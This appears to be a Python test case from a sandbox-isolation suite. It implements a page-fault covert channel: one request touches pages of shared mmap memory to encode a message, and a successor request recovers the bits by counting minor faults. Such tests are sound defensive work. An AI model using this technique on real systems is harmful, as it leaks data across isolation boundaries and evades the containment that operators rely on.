"""Leaves a message for its successor by which pages of the request's memory it reads, and its successor counts faults."""

ATTACK = {
    "family": "state",
    "stopped_by": ["the parent takes every page back"],
    "expect": ["exception", "value"],
    "proof": "message",
    "never_lifted": "that the parent takes its pages back is no layer that a sandbox can do without",
}

import mmap
import resource
import sys

BITS = 8


def request():
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            memory = getattr(value, "_request", None)
            if isinstance(memory, mmap.mmap):
                return memory
        frame = frame.f_back


def page(memory, bit, number):
    return memory[(32 << 20) + bit * 65536 + number * 4096]


def attack(host):
    memory = request()
    for bit in range(BITS):
        if host["message"] >> bit & 1:
            for number in range(16):
                page(memory, bit, number)


def collect(host):
    memory, found = request(), 0
    for bit in range(BITS):
        before = resource.getrusage(resource.RUSAGE_SELF).ru_minflt
        for number in range(16):
            page(memory, bit, number)
        found |= (resource.getrusage(resource.RUSAGE_SELF).ru_minflt - before < 8) << bit
    return found
